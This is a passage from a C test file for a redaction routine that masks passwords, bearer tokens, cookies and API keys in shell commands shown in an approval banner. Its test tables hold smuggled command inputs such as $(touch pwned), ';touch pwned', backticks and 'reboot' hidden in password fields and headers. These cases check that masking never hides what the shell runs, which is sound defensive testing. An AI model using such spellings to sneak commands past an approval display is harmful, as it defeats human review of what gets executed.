    /* a password in a search pattern is the password still */
    { "grep 'openssl enc -k S3cretZq9' notes", "grep 'openssl enc -k [REDACTED]' notes", "S3cretZq9" },
  };
  static const RedactCase two[] = {
    { "ssh-keygen -p -qP OldPwZq9 -qN NewPwZq9 -f k", "ssh-keygen -p -qP [REDACTED] -qN [REDACTED] -f k", "Zq9" },
    { "ssh-keygen -pqPOldPwZq9 -NNewPwZq9 -f k", "ssh-keygen -pqP[REDACTED] -N[REDACTED] -f k", "Zq9" },
  };
  AttackCase attacks[G_N_ELEMENTS (one) + G_N_ELEMENTS (two)];

  assert_cases (one, G_N_ELEMENTS (one), TRUE);
  assert_cases (two, G_N_ELEMENTS (two), FALSE);
  for (gsize i = 0; i < G_N_ELEMENTS (one); i++)
    attacks[i] = (AttackCase) { one[i].input, one[i].secret, { NULL } };
  for (gsize i = 0; i < G_N_ELEMENTS (two); i++)
    attacks[G_N_ELEMENTS (one) + i] = (AttackCase) { two[i].input, two[i].secret, { NULL } };
  assert_attacks (attacks, G_N_ELEMENTS (attacks));
}

/* Round 13's look-alikes that hold no secret: kept whole. */
static void
test_round13_kept (void)
{
  static const char * const kept[] = {
    "ssh-keygen -q -f key",
    "ssh-keygen -t ed25519 -qN '' -f k",
    "ssh-keygen -qf k -N \"\"",
    "ssh-keygen -lf k.pub",
    "ssh-keygen -lvf k.pub",
    "mysql --pager=less db",
    "mysql --pas db",
    "mysql --password-file=pw.txt db",
    "git log --pas=x",
    "psql -c \"SELECT E'\\n'\"",
    "SELECT E'a\\tb', $$text$$ FROM t;",
    "COMMENT ON ROLE u IS $$no password here$$;",
    "ALTER USER u PASSWORD NULL;",
    "The bug was identified\nby the review.",
    "Which user was it?\nThe bug was identified by Alice",
    "CREATE USER u;\nThe bug identified by review",
    "ssh -K -N h",
    "mysql -K -N db",
    "key: value\nname:\n  Zq9LongValue",
    "password:\nhost: h",
    "password:\n  file: /run/pw\n",
    "password:\n  - a\n  - b",
    "password:\n  # set below\n",
    "<add value=\"dark\" key=\"Theme\"/>",
    "<add value=\"12\" key=\"PasswordLength\"/>",
    "<add value=\"$(PW)\" key=\"Password\"/>",
    "openssl enc -kfile pw.txt -in f",
    "openssl req -new -keyout k.pem -out r.csr",
    "openssl enc -aes-256-cbc -kdf pbkdf2 -pass env:PW -in f",
    "openssl rsa -passin file:pw.txt -in k.pem",
    "curl -kS3cretZq9 https://x.example",
    "echo 'GET auth' | redis-cli",
    "echo PING | redis-cli",
    "echo 'AUTH S3cretZq9' | cat",
    "echo \"AUTH $REDIS_PW\" | redis-cli",
    "sshpass -P assword: ssh h",
  };

  assert_commands_kept (kept, G_N_ELEMENTS (kept));
}

/* Round 13's spellings tried as an attacker would: a mask never hides
 * what the shell runs, nor changes bash's reading of what follows. */
static void
test_round13_hide_nothing (void)
{
  static const AttackCase cases[] = {
    { "ssh-keygen -qN #Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "ssh-keygen -qN$(touch pwned) -f k", NULL, { "$(touch pwned)" } },
    { "mysql --pas=#Zq9'\ntouch pwned\n#'", NULL, { "touch pwned" } },
    { "ALTER USER u PASSWORD E'a; touch pwned';", NULL, { "touch pwned" } },
    { "ALTER USER u PASSWORD $$a;touch pwned$$;", NULL, { "touch pwned" } },
    { "PASSWORD $a$reboot$a$", NULL, { "reboot" } },
    { "password:\n  touch pwned", NULL, { "touch pwned" } },
    { "password:\n  $(touch pwned)", NULL, { "$(touch pwned)" } },
    /* a one-word line under a key that reads as a command's name: bash
     * running the text runs it (the block's was masked before) */
    { "password: |\n  reboot", NULL, { "reboot" } },
    { "password: >-\n  ./pwn", NULL, { "./pwn" } },
    { "password:\n  python3", NULL, { "python3" } },
    { "api_key:\n  \"reboot\"", NULL, { "reboot" } },
    { "<add value=\"a; touch pwned\" key=\"Password\"/>", NULL, { "touch pwned" } },
    { "openssl enc -k#Zq9'\ntouch pwned\n#' -in f", NULL, { "touch pwned" } },
    { "echo 'AUTH $(touch pwned)' | redis-cli", NULL, { "$(touch pwned)" } },
    { "echo AUTH `touch pwned` | redis-cli", NULL, { "touch pwned" } },
    { "printf 'AUTH x\\n' | redis-cli; touch pwned", NULL, { "touch pwned" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
}

/* Finding (round 13's attack): the credentials of an Authorization header
 * whose scheme and credentials bash parts by an escaped or quoted blank
 * (curl -H Authorization:Bearer\ TOKEN, -HAuthorization:Bearer\<tab>TOKEN,
 * Authorization:Bearer' 'TOKEN, Bearer$'\x20'TOKEN) were stored as written
 * and shown in the approval banner, the question not marked masked; so
 * were a cookie and an X-Api-Key after an escaped blank.  Each through
 * curl, wget, httpie and git, with each scheme. */
static void
test_auth_header_spellings (void)
{
  static const RedactCase one[] = {
    { "curl -H Authorization:Bearer\\ S3cretZq9abc https://x", "curl -H Authorization:Bearer\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -HAuthorization:Bearer\\ S3cretZq9abc https://x", "curl -HAuthorization:Bearer\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer\\\tS3cretZq9abc https://x", "curl -H Authorization:Bearer\\\t[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer\\ \\ S3cretZq9abc https://x", "curl -H Authorization:Bearer\\ \\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer' 'S3cretZq9abc https://x", "curl -H Authorization:Bearer' '[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer\" \"S3cretZq9abc https://x", "curl -H Authorization:Bearer\" \"[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$' 'S3cretZq9abc https://x", "curl -H Authorization:Bearer$' '[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\x20'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\x20'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\040'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\040'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\t'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\t'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H $'Authorization: Bearer\\tS3cretZq9abc' https://x", "curl -H $'Authorization: Bearer\\t[REDACTED]' https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Basic\\ dXNlcjpTM2NyM3Q= https://x", "curl -H Authorization:Basic\\ [REDACTED] https://x", "dXNlcjpTM2NyM3Q=" },
    { "curl -H Proxy-Authorization:Token\\ S3cretZq9abc https://x", "curl -H Proxy-Authorization:Token\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Digest\\ S3cretZq9abc https://x", "curl -H Authorization:Digest\\ [REDACTED] https://x", "S3cretZq9abc" },
    /* the scheme stays in sight (it was masked with the token) */
    { "curl -H Authorization:\\ Bearer\\ S3cretZq9abc https://x", "curl -H Authorization:\\ Bearer\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H X-Api-Key:\\ S3cretZq9abc https://x", "curl -H X-Api-Key:\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Cookie:\\ session=S3cretZq9abc https://x", "curl -H Cookie:\\ session=[REDACTED] https://x", "S3cretZq9abc" },
    { "wget --header=Authorization:Bearer\\ S3cretZq9abc https://x", "wget --header=Authorization:Bearer\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "http https://x Authorization:Bearer\\ S3cretZq9abc", "http https://x Authorization:Bearer\\ [REDACTED]", "S3cretZq9abc" },
    { "git -c http.extraHeader=Authorization:Bearer\\ S3cretZq9abc clone x", "git -c http.extraHeader=Authorization:Bearer\\ [REDACTED] clone x", "S3cretZq9abc" },
    { "the call sends Authorization:Bearer\\ S3cretZq9abc here", "the call sends Authorization:Bearer\\ [REDACTED] here", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer\\ S3cretZq9abc;touch pwned", "curl -H Authorization:Bearer\\ [REDACTED];touch pwned", "S3cretZq9abc" },
    /* round 14: quotes bash takes out of the word, empty or closing it */
    { "curl -H 'Authorization: Bearer'\\ S3cretZq9abc https://x", "curl -H 'Authorization: Bearer'\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer''\\ S3cretZq9abc https://x", "curl -H Authorization:Bearer''\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer\\ ''S3cretZq9abc https://x", "curl -H Authorization:Bearer\\ ''[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer\"\"\\ S3cretZq9abc https://x", "curl -H Authorization:Bearer\"\"\\ [REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\x20'$'S3cretZq9abc' https://x", "curl -H Authorization:Bearer$'\\x20'$'[REDACTED]' https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer\\ $'S3cretZq9abc' https://x", "curl -H Authorization:Bearer\\ $'[REDACTED]' https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\r'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\r'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Cookie:$'\\t'a=S3cretZq9abc https://x", "curl -H Cookie:$'\\t'a=[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Cookie:' 'a=S3cretZq9abc https://x", "curl -H Cookie:' 'a=[REDACTED] https://x", "S3cretZq9abc" },
    /* control characters of ANSI-C quoting part no credentials: the scheme stays */
    { "curl -H Authorization:Bearer$'\\u0020'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\u0020'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\40'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\40'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\v'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\v'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\f'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\f'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Authorization:Bearer$'\\e'S3cretZq9abc https://x", "curl -H Authorization:Bearer$'\\e'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H Cookie:\\ session=S3cretZq9abc\\;\\ b=1 https://x", "curl -H Cookie:\\ session=[REDACTED]\\;\\ b=1 https://x", "S3cretZq9abc" },
    /* NAME: rules with blanks quoted before the value (att14 F1g) */
    { "curl -H X-Api-Key:' 'S3cretZq9abc https://x", "curl -H X-Api-Key:' '[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H X-Api-Key:$'\\t'S3cretZq9abc https://x", "curl -H X-Api-Key:$'\\t'[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H X-Api-Key:\" \"S3cretZq9abc https://x", "curl -H X-Api-Key:\" \"[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H X-Auth-Token:' 'S3cretZq9abc https://x", "curl -H X-Auth-Token:' '[REDACTED] https://x", "S3cretZq9abc" },
    { "curl -H X-Api-Key:$' 'S3cretZq9abc https://x", "curl -H X-Api-Key:$' '[REDACTED] https://x", "S3cretZq9abc" },
    /* a variable after the token is neither masked nor swallowed */
    { "curl -H Authorization:Bearer\\ S3cretZq9abc$IFS;reboot", "curl -H Authorization:Bearer\\ [REDACTED]$IFS;reboot", "S3cretZq9abc" },
  };
  /* held before, kept so */
  static const AttackCase held[] = {
    { "curl -H 'Authorization:Bearer S3cretZq9abc' https://x", "S3cretZq9abc", { NULL } },
    { "curl -H \"Authorization: Bearer \"S3cretZq9abc https://x", "S3cretZq9abc", { NULL } },
    { "http https://x Authorization:\"Bearer S3cretZq9abc\"", "S3cretZq9abc", { NULL } },
    { "wget --header='Authorization: Bearer S3cretZq9abc' https://x", "S3cretZq9abc", { NULL } },
    { "{\"headers\":{\"Authorization\":\"Bearer S3cretZq9abc\"}}", "S3cretZq9abc", { NULL } },
  };
  /* what the shell runs stays in sight */
  static const AttackCase hide_nothing[] = {
    { "curl -H Authorization:Bearer\\ $(touch pwned) https://x", NULL, { "$(touch pwned)" } },
    { "curl -H Authorization:Bearer' '`touch pwned` https://x", NULL, { "`touch pwned`" } },
    { "curl -H Authorization:Bearer$'\\t'$(touch pwned) https://x", NULL, { "$(touch pwned)" } },
    { "curl -H Cookie:\\ a=$(touch pwned) https://x", NULL, { "$(touch pwned)" } },
    { "curl -H Authorization:Bearer\\ S3cretZq9abc;touch pwned", "S3cretZq9abc", { ";touch pwned" } },
    { "curl -H Authorization:Bearer''\\ $(touch pwned) https://x", NULL, { "$(touch pwned)" } },
    { "curl -H 'Authorization: Bearer'\\ `touch pwned` https://x", NULL, { "`touch pwned`" } },
    { "curl -H Authorization:Bearer\\ ''S3cretZq9abc;touch pwned", "S3cretZq9abc", { ";touch pwned" } },
    { "curl -H Cookie:' 'a=S3cretZq9abc;touch pwned", "S3cretZq9abc", { ";touch pwned" } },
    { "curl -H Authorization:Bearer$'\\t'S3cretZq9abc;touch pwned", "S3cretZq9abc", { ";touch pwned" } },
    { "curl -H X-Api-Key:$'\\t'$(touch pwned) https://x", NULL, { "$(touch pwned)" } },
    { "curl -H Cookie:\\ a=S3cretZq9abc\\;\\ b=1;touch pwned", "S3cretZq9abc", { ";touch pwned" } },
    { "curl -H Cookie:$'\\t'a=$(touch pwned) https://x", NULL, { "$(touch pwned)" } },
    { "curl -H Authorization:Bearer\\ S3cretZq9abc$IFS;touch pwned", "S3cretZq9abc", { "$IFS;touch pwned" } },
    { "curl -H X-Api-Key:' 'S3cretZq9abc;touch pwned", "S3cretZq9abc", { ";touch pwned" } },
    { "curl -H X-Api-Key:$'\\t'S3cretZq9abc;touch pwned", "S3cretZq9abc", { ";touch pwned" } },
    { "curl -H Authorization:Bearer' 'S3cretZq9abc;touch pwned", "S3cretZq9abc", { ";touch pwned" } },
    { "curl -H X-Api-Key:' 'S3cretZq9abc x; echo 'y'", "S3cretZq9abc", { " x; echo 'y'" } },
  };
  /* a name, not a secret (as Authorization: Bearer $TOKEN), and look-alikes */
  static const char * const kept[] = {
    "curl -H Accept:text/plain https://x",
    "curl -H Accept:\\ text/plain https://x",
    "curl -H \"Authorization: Bearer $TOKEN\" https://x",
    "curl -H Authorization:Bearer\\ $TOKEN https://x",
    "curl -H Authorization:Bearer' '$TOKEN https://x",
    "curl -H \"Authorization: Bearer \"$TOKEN https://x",
    "curl -H Authorization:Bearer$'\\t'${TOKEN} https://x",
    "wget --header=Authorization:Bearer\\ \"$TOKEN\" https://x",
    "http https://x Authorization:Bearer\\ $TOKEN",
    "curl -H Authorization:Bearer''\\ $TOKEN https://x",
    "curl -H 'Authorization: Bearer'\\ \"$TOKEN\" https://x",
    "curl -H \"Authorization: Basic\" https://x",
    "curl -H X-Api-Key:' '$TOKEN https://x",
  };
  AttackCase attacks[G_N_ELEMENTS (one)];

  assert_cases (one, G_N_ELEMENTS (one), TRUE);
  for (gsize i = 0; i < G_N_ELEMENTS (one); i++)
    attacks[i] = (AttackCase) { one[i].input, one[i].secret, { NULL } };
  assert_attacks (attacks, G_N_ELEMENTS (attacks));
  assert_attacks (held, G_N_ELEMENTS (held));
  assert_attacks (hide_nothing, G_N_ELEMENTS (hide_nothing));
  assert_commands_kept (kept, G_N_ELEMENTS (kept));
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/pd/redact/spellings-masked", test_spellings_masked);
  g_test_add_func ("/pd/redact/spellings-checked", test_spellings_checked);
  g_test_add_func ("/pd/redact/spellings-kept", test_spellings_kept);
  g_test_add_func ("/pd/redact/spellings-hide-nothing", test_spellings_hide_nothing);
  g_test_add_func ("/pd/redact/sudo-stdin-program", test_sudo_stdin_program);
  g_test_add_func ("/pd/redact/xml-redirection", test_xml_redirection);
  g_test_add_func ("/pd/redact/masks-keep-meaning", test_masks_keep_meaning);
  g_test_add_func ("/pd/redact/no-secret-kept", test_no_secret_kept);
  g_test_add_func ("/pd/redact/zip-grouped", test_zip_grouped);
  g_test_add_func ("/pd/redact/round13-masked", test_round13_masked);
  g_test_add_func ("/pd/redact/round13-kept", test_round13_kept);
  g_test_add_func ("/pd/redact/round13-hide-nothing", test_round13_hide_nothing);
  g_test_add_func ("/pd/redact/auth-header-spellings", test_auth_header_spellings);
  return g_test_run ();
}
